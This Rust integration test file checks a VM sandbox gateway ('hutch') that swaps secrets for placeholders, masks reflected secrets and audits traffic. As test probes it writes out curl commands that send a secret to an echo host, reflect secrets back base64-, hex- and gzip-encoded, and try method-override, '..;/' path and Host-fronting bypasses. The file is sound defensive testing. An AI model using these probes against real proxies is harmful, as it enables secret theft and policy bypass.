for i in $(seq 150); do grep -q '^reconnect' /root/keepalive.log && break; sleep 0.2; done
p keepalive cat /root/keepalive.log
"#
        ));
    assert_eq!(o.code, Some(0), "{}", o.dump());
    assert!(
        o.stderr.contains("── setup: ") && o.stderr.contains("Setting up hutch-demo (1.0)"),
        "apt installed the package in the setup phase: {}",
        o.stderr
    );
    assert!(o.stderr.contains("setup sees: hutch-demo 1.0 from the test registry"), "{}", o.stderr);
    assert_eq!(o.ok("demo").trim(), "hutch-demo 1.0 from the test registry", "the command uses what setup installed");
    assert!(
        requests_at(&net, "/files/debian/hutch-demo_1.0_all.deb").len() == 1,
        "the package came from the registry: {:?}",
        net.requests().iter().map(|r| &r.path).collect::<Vec<_>>()
    );
    // The command cannot reach the registry: the proxy refuses it at once, and apt cannot fetch from it.
    o.refused_with("registry", "403");
    o.refused_with("apt", "403 Forbidden");
    let agent_denials: Vec<_> = o
        .audit
        .iter()
        .filter(|r| r["phase"] == "agent" && r["decision"] == "deny" && r["dest"].as_str().is_some_and(|d| d.starts_with(REGISTRY)))
        .collect();
    assert!(!agent_denials.is_empty(), "the command's attempts are denied and audited: {}", o.audit_text());
    assert!(
        o.audit.iter().any(|r| r["phase"] == "setup"
            && r["event"] == "connection"
            && r["decision"] == "allow"
            && r["dest"] == format!("{REGISTRY}:{p}").as_str()),
        "{}",
        o.audit_text()
    );
    // The background connection opened during setup was closed when setup ended, and no new one was allowed.
    let log = o.ok("keepalive");
    assert!(log.starts_with("ok 1 200"), "{log}");
    assert!(log.lines().any(|l| l.starts_with("cut ")), "{log}");
    assert!(log.contains("reconnect refused"), "{log}");
    assert!(
        o.audit.iter().any(|r| r["phase"] == "setup"
            && r["dest"] == format!("{REGISTRY}:{p}").as_str()
            && r["flags"].as_array().is_some_and(|f| f.iter().any(|x| x == "phase_ended"))),
        "the cut connection is audited: {}",
        o.audit_text()
    );
    let oks = log.lines().filter(|l| l.starts_with("ok ")).count();
    assert_eq!(net.requests_to("/files/debian/Packages?keepalive=").len(), oks, "no request got through after the cut");
    assert!(net.requests_to("/files/debian/Packages?reconnect").is_empty());
    assert!(o.stderr.contains(REGISTRY), "the end-of-run summary names the denied registry: {}", o.stderr);
}

/// Threats 6 and 15 across phases: a secret bound to the setup phase is swapped for the setup
/// script's requests to its host; the command never gets its placeholder in its environment,
/// and when it sends the placeholder anyway (the setup script left it in a file) it is not
/// swapped, not even on its own host, and is flagged. The agent phase's own secret works the
/// other way round.
#[test]
fn setup_secret_is_swapped_only_during_setup_and_flagged_afterwards() {
    let net = TestNet::start().expect("testnet");
    let p = net.https_port();
    let setup_real = format!("setup-{}", random_hex(24));
    let agent_real = format!("agent-{}", random_hex(24));
    let setup = setup_file(
        net.dir(),
        &format!(
            r#"curl -sS --fail -H "Authorization: Bearer $SETUP_TOKEN" -H "X-Agent: $AGENT_TOKEN" https://{TOKEN_HOST}:{p}/setup-call > /root/setup-echo.json
echo "$SETUP_TOKEN" > /root/setup-token
"#
        ),
    );
    // One VM for setup and command (no environment cache): with a cache entry made, the command would run in a
    // VM restored from it, under a new gateway with placeholders of its own.
    let o = Vm::new(&net)
        .https(TOKEN_HOST)
        .upstream_ca()
        .args(&[
            "--no-cache",
            "--setup",
            &setup,
            "--setup-allow",
            &format!("{TOKEN_HOST}:{p}"),
            "--setup-secret",
            &format!("SETUP_TOKEN@{TOKEN_HOST}"),
            "--secret",
            &format!("AGENT_TOKEN@{TOKEN_HOST}"),
        ])
        .env("SETUP_TOKEN", &setup_real)
        .env("AGENT_TOKEN", &agent_real)
        .run(&format!(
            r#"
p env-setup printenv SETUP_TOKEN
p env-agent printenv AGENT_TOKEN
p setup-token cat /root/setup-token
p setup-echo cat /root/setup-echo.json
p agent-call curl -sS --fail -H "X-Setup: Bearer $(cat /root/setup-token)" -H "Authorization: $AGENT_TOKEN" https://{TOKEN_HOST}:{p}/agent-call
"#
        ));
    assert_eq!(o.code, Some(0), "{}", o.dump());
    o.refused("env-setup");
    let setup_ph = o.ok("setup-token").trim().to_string();
    let agent_ph = o.ok("env-agent").trim().to_string();
    assert!(setup_ph.starts_with("hutch-ph-SETUP_TOKEN-"), "{setup_ph}");
    assert!(agent_ph.starts_with("hutch-ph-AGENT_TOKEN-"), "{agent_ph}");

    let seen = |path: &str| {
        requests_at(&net, path)
            .into_iter()
            .next()
            .unwrap_or_else(|| panic!("{path} not received: {:?}", net.requests()))
    };
    let during_setup = seen("/setup-call");
    assert_eq!(during_setup.header("authorization"), Some(format!("Bearer {setup_real}").as_str()), "swapped during setup");
    assert_eq!(during_setup.header("x-agent"), Some(agent_ph.as_str()), "the agent's secret is not swapped during setup");
    let after = seen("/agent-call");
    assert_eq!(after.header("x-setup"), Some(format!("Bearer {setup_ph}").as_str()), "not swapped after setup");
    assert_eq!(after.header("authorization"), Some(agent_real.as_str()), "the agent's own secret is swapped");
    assert!(
        o.ok("setup-echo").contains(&setup_ph) && !o.ok("setup-echo").contains(&setup_real),
        "the echo to setup was masked: {}",
        o.ok("setup-echo")
    );
    assert!(!o.stdout.contains(&setup_real) && !o.stdout.contains(&agent_real), "no value ever reached the VM");

    let request = |path: &str| {
        o.audit
            .iter()
            .find(|r| r["event"] == "request" && r["path"] == path)
            .unwrap_or_else(|| panic!("no audit record for {path}: {}", o.audit_text()))
    };
    let flags = |r: &serde_json::Value| -> Vec<String> {
        r["flags"].as_array().map(|a| a.iter().filter_map(|x| x.as_str().map(str::to_string)).collect()).unwrap_or_default()
    };
    let r = request("/setup-call");
    assert_eq!((r["phase"].as_str(), r["secrets"][0].as_str()), (Some("setup"), Some("SETUP_TOKEN")), "{r}");
    assert!(flags(r).contains(&"placeholder_out_of_phase:AGENT_TOKEN".to_string()), "{r}");
    let r = request("/agent-call");
    assert_eq!((r["phase"].as_str(), r["secrets"][0].as_str()), (Some("agent"), Some("AGENT_TOKEN")), "{r}");
    assert!(flags(r).contains(&"placeholder_out_of_phase:SETUP_TOKEN".to_string()), "{r}");
}

/// True when `text` gives back at least half of `value` in any way a guest could decode it:
/// as it is (any case), from base64 or URL-safe base64 at any offset, from hex, from percent or
/// `\u` escapes.
fn leaks(text: &str, value: &str) -> bool {
    use base64::Engine;
    let mut forms: Vec<Vec<u8>> = vec![text.as_bytes().to_vec()];
    for word in text.split(|c: char| c.is_whitespace() || c == '"') {
        for skip in 0..4 {
            let t = word.get(skip..).unwrap_or("").trim_end_matches('=');
            let t = &t[..t.len() / 4 * 4];
            for e in [
                base64::engine::general_purpose::STANDARD_NO_PAD,
                base64::engine::general_purpose::URL_SAFE_NO_PAD,
            ] {
                if let Ok(d) = e.decode(t) {
                    forms.push(d);
                }
            }
        }
        let hexdigits: Vec<u8> = word
            .bytes()
            .filter_map(|b| (b as char).to_digit(16).map(|d| d as u8))
            .collect();
        if hexdigits.len() == word.len() && word.len() % 2 == 0 {
            forms.push(hexdigits.chunks(2).map(|c| c[0] * 16 + c[1]).collect());
        }
    }
    let unescaped = text.replace("\\u00", "%");
    let b = unescaped.as_bytes();
    let mut pct = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let hex = b
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| u8::from_str_radix(h, 16).ok());
        match (b[i], hex) {
            (b'%', Some(v)) => {
                pct.push(v);
                i += 3;
            }
            (c, _) => {
                pct.push(c);
                i += 1;
            }
        }
    }
    forms.push(pct);
    let half = &value.as_bytes()[value.len() / 4..value.len() / 4 + value.len() / 2];
    forms
        .iter()
        .any(|f| f.windows(half.len()).any(|w| w.eq_ignore_ascii_case(half)))
}

const RULED: &str = "ruled.example.test";

/// Classes 17 and 19 from inside a VM. Class 17 (secret laundering through the bound host): the
/// host reflects the swapped Authorization header back in base64 (each alignment), URL-safe
/// base64, hex, percent and JSON escapes and the status line, and the guest can decode none of
/// them (each masking audited with its encoding); gzip, br and zstd reflections are decoded, masked
/// and handed over identity-encoded; a value the
/// policy lets be swapped into bodies under `/store/` is stored there and read back masked over
/// TLS and plain HTTP, and `Range` reads are refused; a secret scoped to `/v1/` is not swapped on
/// `/v2/`. Class 19: method overrides and `;` dot segments do not pass a GET-only `/ok/` rule.
#[test]
fn class_17_class_19_laundering_and_request_semantics_from_a_vm() {
    let net = TestNet::start().expect("testnet");
    let (p, hp) = (net.https_port(), net.http_port());
    let key = format!("sk-Key{}Z", random_hex(20));
    let stored = format!("st-Stored{}Q", random_hex(20));
    let scoped = format!("sc-Scoped{}W", random_hex(20));
    let policy = net.dir().join("laundering.toml");
    std::fs::write(
        &policy,
        format!(
            r#"
allow = ["{API}:{p}", "{API}:{hp}", {{ host = "{RULED}", ports = [{p}], methods = ["GET"], paths = ["/ok/"] }}]
resolve = ["{API}:{p}:127.0.0.1", "{API}:{hp}:127.0.0.1", "{RULED}:{p}:127.0.0.1"]
upstream_ca = ["{ca}"]
[secrets.STORED]
hosts = ["{API}:{p}/store/"]
in_body = true
"#,
            ca = net.ca_file().display()
        ),
    )
    .expect("write policy");
    let reflect = |name: &str, enc: &str, pad: u32| {
        format!(
            "p {name} curl -sS --fail -H \"Authorization: $KEY\" 'https://{API}:{p}/reflect-enc/{enc}/authorization?pad={pad}'\n"
        )
    };
    let mut script = String::new();
    for (name, enc, pad) in [
        ("b64-0", "base64", 0),
        ("b64-1", "base64", 1),
        ("b64-2", "base64", 2),
        ("b64url-1", "base64url", 1),
        ("hex", "hex", 0),
        ("hex-upper", "HEX", 1),
        ("percent", "percent", 0),
        ("json", "json", 0),
    ] {
        script.push_str(&reflect(name, enc, pad));
    }
    script.push_str(&format!(
        r#"p status sh -c 'curl -sS -i --http1.1 -H "Authorization: $KEY" https://{API}:{p}/reflect-status/authorization | head -1'
p gzip curl -sS --fail-with-body --compressed -H "Authorization: $KEY" https://{API}:{p}/reflect-enc/gzip/authorization
p br curl -sS --fail-with-body -H "Authorization: $KEY" https://{API}:{p}/reflect-enc/br/authorization
p zstd curl -sS --fail-with-body -H "Authorization: $KEY" https://{API}:{p}/reflect-enc/zstd/authorization
p store curl -sS --fail -d "v=$STORED;" https://{API}:{p}/store/k1
p read curl -sS --fail https://{API}:{p}/store/k1
p read-plain curl -sS --fail http://{API}:{hp}/store/k1
p read-range curl -sS --fail-with-body -r 2-6 https://{API}:{p}/store/k1
p scoped-in curl -sS --fail -H "Authorization: $SCOPED" https://{API}:{p}/v1/in
p scoped-out curl -sS --fail -H "Authorization: $SCOPED" https://{API}:{p}/v2/out
p ruled-ok curl -sS --fail https://{RULED}:{p}/ok/fine
p override curl -sS --fail-with-body -H 'X-HTTP-Method-Override: DELETE' https://{RULED}:{p}/ok/x
p method-param curl -sS --fail-with-body "https://{RULED}:{p}/ok/x?_method=DELETE"
p semicolon curl -sS --fail-with-body --path-as-is "https://{RULED}:{p}/ok/..;/secret"
p jsession curl -sS --fail-with-body --path-as-is "https://{RULED}:{p}/ok/..;jsessionid=1/secret"
"#
    ));
    let policy_arg = policy.display().to_string();
    let o = Vm::new(&net)
        .args(&["--policy", &policy_arg])
        .args(&["--secret", &format!("KEY@{API}"), "--secret", &format!("SCOPED@{API}:{p}/v1/")])
        .env("KEY", &key)
        .env("STORED", &stored)
        .env("SCOPED", &scoped)
        .run(&script);
    assert_eq!(o.code, Some(0), "{}", o.dump());
    for probe in ["b64-0", "b64-1", "b64-2", "b64url-1", "hex", "hex-upper", "percent", "json", "status"] {
        let out = o.ok(probe);
        assert!(!leaks(out, &key), "{probe} hands the guest the value: {out}");
    }
    assert_eq!(o.ok("status").trim(), "HTTP/1.1 200 OK");
    assert!(
        requests_at(&net, "/reflect-enc/hex/authorization?pad=0")[0].header("authorization")
            == Some(key.as_str()),
        "the host really got the value"
    );
    for probe in ["gzip", "br", "zstd"] {
        // Decoded, masked, handed over identity-encoded (curl without --compressed reads it).
        let out = o.ok(probe);
        assert!(out.contains("hutch-ph-KEY-") && out.trim_end().ends_with("-tail") && !leaks(out, &key), "{probe}: {out}");
    }
    assert!(o.ok("read").contains("hutch-ph-STORED-") && !leaks(o.ok("read"), &stored), "{}", o.ok("read"));
    assert!(!leaks(o.ok("read-plain"), &stored), "{}", o.ok("read-plain"));
    assert!(requests_at(&net, "/store/k1")[0].body.contains(&stored), "the store holds the real value");
    o.refused_with("read-range", "Range requests are refused");
    assert_eq!(
        requests_at(&net, "/v1/in")[0].header("authorization"),
        Some(scoped.as_str())
    );
    assert!(requests_at(&net, "/v2/out")[0].header("authorization").is_some_and(|v| v.starts_with("hutch-ph-SCOPED-")));
    assert!(o.ok("ruled-ok").contains("/ok/fine"));
    for probe in ["override", "method-param", "semicolon", "jsession"] {
        o.refused_with(probe, "403");
    }
    assert!(
        net.requests().iter().all(|s| !s.path.contains("secret") && !s.path.starts_with("/ok/x")),
        "a class 19 bypass reached the test net"
    );

    let flags: Vec<String> = o
        .audit
        .iter()
        .flat_map(|r| r["flags"].as_array().cloned().unwrap_or_default())
        .filter_map(|f| f.as_str().map(str::to_string))
        .collect();
    for want in [
        "masked_in_response:KEY:base64",
        "masked_in_response:KEY:hex",
        "masked_in_response:KEY:escaped",
        "masked_in_status_line:KEY:literal",
        "masked_in_response:KEY:literal+gzip",
        "masked_in_response:KEY:literal+br",
        "masked_in_response:KEY:literal+zstd",
        "masked_in_response:STORED:literal",
        "placeholder_out_of_scope:SCOPED",
    ] {
        assert!(flags.iter().any(|f| f == want), "{want} not audited: {flags:?}");
    }
    for (what, text) in [("stdout", &o.stdout), ("stderr", &o.stderr), ("audit", &o.audit_text())] {
        for v in [&key, &stored, &scoped] {
            assert!(!text.contains(v.as_str()), "hutch's {what} holds a real value");
        }
    }
}

/// A WebSocket client in python's standard library: the opening handshake (with `Authorization:
/// $KEY`), one text message, the reply (fragments joined) printed; exit 1 with the status when
/// the switch is refused.
const WS_CLIENT: &str = r#"cat > /tmp/ws.py <<'PY'
import base64, os, socket, ssl, struct, sys
host, port, path, msg = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["http/1.1"])
s = ctx.wrap_socket(socket.create_connection((host, port), timeout=30), server_hostname=host)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall(("GET %s HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\nAuthorization: %s\r\n\r\n"
           % (path, host, port, key, os.environ.get("KEY", ""))).encode())
buf = b""
while b"\r\n\r\n" not in buf:
    d = s.recv(4096)
    if not d:
        break
    buf += d
head, _, rest = buf.partition(b"\r\n\r\n")
status = head.split(b"\r\n")[0].decode()
if status.split(" ")[1:2] != ["101"]:
    print(status); print(rest.decode(errors="replace")); sys.exit(1)
def exact(n):
    global rest
    while len(rest) < n:
        d = s.recv(65536)
        if not d:
            raise EOFError
        rest += d
    out, rest = rest[:n], rest[n:]
    return out
data, mask = msg.encode(), os.urandom(4)
n = len(data)
hdr = bytes([0x81, 0x80 | n]) if n < 126 else bytes([0x81, 0x80 | 126]) + struct.pack(">H", n)
s.sendall(hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
parts = []
while True:
    b0, b1 = exact(2)
    n = b1 & 0x7f
    if n == 126:
        n = struct.unpack(">H", exact(2))[0]
    elif n == 127:
        n = struct.unpack(">Q", exact(8))[0]
    payload = exact(n)
    if b0 & 0x0f >= 8:
        continue
    parts.append(payload)
    if b0 & 0x80:
        break
print(b"".join(parts).decode())
PY
"#;

/// Class 10 from inside a VM: WebSocket and HTTP/2 through inspection. A WebSocket to the bound
/// host gets the secret in the opening request's header (the upstream sees the value) and the
/// server's reflection of it, fragmented, comes back masked; a path rule refuses an upgrade
/// outside it; a denied name gets no connection. curl's HTTP/2 gets `h2` from the gateway (the
/// test net speaks it), each request judged on its own, responses masked.
#[test]
fn class_10_websocket_and_http2_through_inspection_from_a_vm() {
    let net = TestNet::start().expect("testnet");
    let p = net.https_port();
    let key = format!("sk-Key{}Z", random_hex(20));
    let policy = net.dir().join("carried.toml");
    std::fs::write(
        &policy,
        format!(
            r#"
allow = ["{API}:{p}", {{ host = "{RULED}", ports = [{p}], methods = ["GET"], paths = ["/ok/", "/ws/"] }}]
resolve = ["{API}:{p}:127.0.0.1", "{RULED}:{p}:127.0.0.1"]
upstream_ca = ["{ca}"]
"#,
            ca = net.ca_file().display()
        ),
    )
    .expect("write policy");
    let script = format!(
        r#"{WS_CLIENT}
p ws-echo python3 /tmp/ws.py {API} {p} /ws/echo hello
p ws-reflect python3 /tmp/ws.py {API} {p} /ws/echo headers-split-5
p ws-ruled-out python3 /tmp/ws.py {RULED} {p} /elsewhere hello
p ws-ruled-in python3 /tmp/ws.py {RULED} {p} /ws/echo hello
p ws-denied python3 /tmp/ws.py denied.example.test {p} /ws/echo hello
p h2 curl -sS --fail --http2 -w '\n%{{http_version}}' -H "Authorization: $KEY" https://{API}:{p}/reflect/authorization
p h2-ok curl -sS --fail --http2 -w '\n%{{http_version}}' https://{RULED}:{p}/ok/x
p h2-no curl -sS --fail-with-body --http2 https://{RULED}:{p}/secret
"#
    );
    let policy_arg = policy.display().to_string();
    let o = Vm::new(&net)
        .args(&["--policy", &policy_arg, "--secret", &format!("KEY@{API}")])
        .env("KEY", &key)
        .run(&script);
    assert_eq!(o.code, Some(0), "{}", o.dump());
    assert_eq!(o.ok("ws-echo").trim(), "hello");
    let reflected = o.ok("ws-reflect");
    assert!(reflected.contains("hutch-ph-KEY-") && !leaks(reflected, &key), "{reflected}");
    assert_eq!(requests_at(&net, "/ws/echo")[0].header("authorization"), Some(key.as_str()));
    o.refused_with("ws-ruled-out", "403");
    assert_eq!(o.ok("ws-ruled-in").trim(), "hello");
    o.refused("ws-denied");
    let h2 = o.ok("h2");
    assert!(h2.trim_end().ends_with("\n2"), "HTTP/2 end to end: {h2}");
    assert!(h2.contains("hutch-ph-KEY-") && !leaks(h2, &key), "{h2}");
    assert_eq!(requests_at(&net, "/reflect/authorization")[0].version, "HTTP/2.0");
    assert!(o.ok("h2-ok").trim_end().ends_with("\n2"));
    o.refused_with("h2-no", "403");
    assert!(net.requests().iter().all(|s| s.path != "/secret" && s.path != "/elsewhere"));
    let flags: Vec<String> = o
        .audit
        .iter()
        .flat_map(|r| r["flags"].as_array().cloned().unwrap_or_default())
        .filter_map(|f| f.as_str().map(str::to_string))
        .collect();
    for want in ["websocket", "websocket_closed", "masked_in_websocket:KEY:literal"] {
        assert!(flags.iter().any(|f| f == want), "{want} not audited: {flags:?}");
    }
    for (what, text) in [("stdout", &o.stdout), ("stderr", &o.stderr), ("audit", &o.audit_text())] {
        assert!(!text.contains(key.as_str()), "hutch's {what} holds the real value");
    }
}

/// Classes 6, 5 and 13 with `--inspect-all` from inside a VM: TLS to an allowed host without
/// secrets is terminated too (its certificate is the sandbox CA's), so a placeholder sent there,
/// in a header or a streamed body, is seen and flagged; SNI of that host with the Host of
/// another is refused (421) and reaches nothing.
#[test]
fn class_6_class_5_class_13_inspect_all_sees_every_allowed_host() {
    let net = TestNet::start().expect("testnet");
    let p = net.https_port();
    let key = format!("sk-All{}Z", random_hex(20));
    let script = format!(
        r#"
p leak-header curl -sS --fail -H "Authorization: Bearer $KEY" https://{ECHO}:{p}/leak-h
p leak-body sh -c 'head -c 100000 /dev/zero | tr "\0" a > /root/big; printf "%s" "$KEY" >> /root/big; curl -sS --fail --data-binary @/root/big https://{ECHO}:{p}/leak-b'
p front curl -sS --fail-with-body -H 'Host: {API}:{p}' https://{ECHO}:{p}/fronted
p issuer sh -c 'curl -sS -v -o /dev/null https://{ECHO}:{p}/issuer 2>&1 | grep -i "issuer:"'
p swap curl -sS --fail -H "Authorization: $KEY" https://{API}:{p}/v1/swap
"#
    );
    let o = Vm::new(&net)
        .https(ECHO)
        .https(API)
        .upstream_ca()
        .args(&["--inspect-all", "--secret", &format!("KEY@{API}")])
        .env("KEY", &key)
        .run(&script);
    assert_eq!(o.code, Some(0), "{}", o.dump());
    assert!(o.ok("issuer").contains("Hutch sandbox"), "{}", o.ok("issuer"));
    o.refused_with("front", "421");
    assert!(requests_at(&net, "/fronted").is_empty(), "the fronted request reached the net");
    assert!(requests_at(&net, "/leak-h")[0].contains("hutch-ph-KEY-"), "sent as it is, not swapped");
    assert_eq!(requests_at(&net, "/v1/swap")[0].header("authorization"), Some(key.as_str()));
    for path in ["/leak-h", "/leak-b"] {
        let rec = o
            .audit
            .iter()
            .find(|r| r["event"] == "request" && r["path"] == path)
            .unwrap_or_else(|| panic!("no record for {path}: {}", o.audit_text()));
        assert_eq!(rec["mode"], "tls_intercept", "{rec}");
        assert!(
            rec["flags"].as_array().is_some_and(|f| f.iter().any(|x| x == "possible_exfiltration:KEY")),
            "{path} not flagged: {rec}"
        );
    }
    assert!(!o.stdout.contains(&key) && !o.audit_text().contains(&key));
}
